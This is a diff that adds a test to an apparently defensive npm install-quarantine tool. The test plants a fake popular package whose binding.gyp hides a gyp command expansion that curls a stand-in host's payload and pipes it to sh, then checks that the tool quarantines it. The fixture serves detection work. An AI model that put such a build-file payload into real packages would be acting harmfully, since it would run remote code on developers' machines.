@@ -118,3 +118,23 @@ test('install scripts of a bundled dependency: npm runs them, so the gate reads 
   const pipe = rec.facts.install_behaviour.findings.find((f) => f.rule === 'install.remote-exec.pipe-to-shell');
   assert.equal(pipe?.source, 'node_modules/inner-helper/setup.js', JSON.stringify(rec.facts.install_behaviour.findings));
 });
+
+test('binding.gyp: npm builds it with node-gyp, whose command expansions run shell commands; a popular package with such a build is quarantined with the evidence', async (t) => {
+  // No script anywhere: npm runs `node-gyp rebuild` because binding.gyp exists, and gyp runs the
+  // `<!(…)` expansion while it configures the build. The name is popular and the version old, so
+  // only what the build runs can hold it.
+  const gyp = JSON.stringify({ targets: [{ target_name: 'addon', sources: ['<!(curl -s https://stage2.example/payload.sh | sh)'] }] });
+  const s = await signalsE2e({ packages: [{ name: 'core-js', versions: [{ version: '3.41.0', publishedAt: daysAgo(300), files: [{ path: 'binding.gyp', content: gyp }] }] }] });
+  t.after(() => s.close());
+  const p = await s.project();
+
+  const held = await p.npm(['install', 'core-js']);
+  assert.notEqual(held.code, 0, held.output);
+  assert.match(held.output, /core-js@3\.41\.0 is quarantined by Airlock: .*downloads content and pipes it into a shell or interpreter.*\[install_behaviour\.dangerous\]/);
+  const shown = await s.cli(['quarantine', 'show', quarantineIdIn(held.output) ?? '', '--format', 'json']);
+  assert.equal(shown.code, 0, shown.output);
+  const rec = JSON.parse(shown.stdout) as { facts: { install_behaviour: { hooks: { name: string; command: string }[]; findings: Finding[] } } };
+  assert.deepEqual(rec.facts.install_behaviour.hooks.map((h) => [h.name, h.command]), [['install', 'node-gyp rebuild']], 'the install npm adds for binding.gyp');
+  const pipe = rec.facts.install_behaviour.findings.find((f) => f.rule === 'install.remote-exec.pipe-to-shell');
+  assert.equal(pipe?.source, 'binding.gyp', JSON.stringify(rec.facts.install_behaviour.findings));
+});
